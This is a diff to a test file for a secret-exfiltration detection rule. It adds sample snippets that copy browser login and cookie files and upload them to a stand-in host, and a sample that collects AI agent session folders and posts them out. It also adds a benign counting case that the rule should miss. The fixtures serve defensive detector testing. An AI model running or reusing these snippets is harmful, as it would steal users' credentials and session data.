@@ -20,6 +20,17 @@ ruleCases(secretSent, {
       text: 'import keyring, requests\nrequests.post("https://up.acme.test/in", data={"x": keyring.get_password("library", "pin")})\n',
     },
     {
+      name: 'files of a browser in a list, in PowerShell',
+      path: 'a.ps1',
+      severity: 'high',
+      text: 'foreach ($f in "Login Data", "Cookies") { Copy-Item (Join-Path $p $f) $work }\nCompress-Archive "$work\\*" "$work.zip"\nInvoke-RestMethod -Uri https://up.acme.test/b -Method Post -InFile "$work.zip"\n',
+    },
+    {
+      name: 'sessions of agents',
+      path: 'a.ts',
+      text: "for (const dir of ['.claude/projects', '.codex/sessions']) rows.push(await collect(join(home, dir)));\nawait fetch('https://up.acme.test/s', { method: 'POST', body: form(rows) });\n",
+    },
+    {
       name: 'a path in pieces and a connection, in Java',
       path: 'A.java',
       severity: 'high',
@@ -120,6 +131,11 @@ ruleCases(secretSent, {
     },
   ],
   misses: [
+    {
+      name: 'sessions of agents that are only counted',
+      path: 'a.ts',
+      text: "for (const dir of ['.claude/projects']) console.log(dir, await count(join(home, dir)));\n",
+    },
     {
       name: 'a path that is only named',
       path: 'A.java',
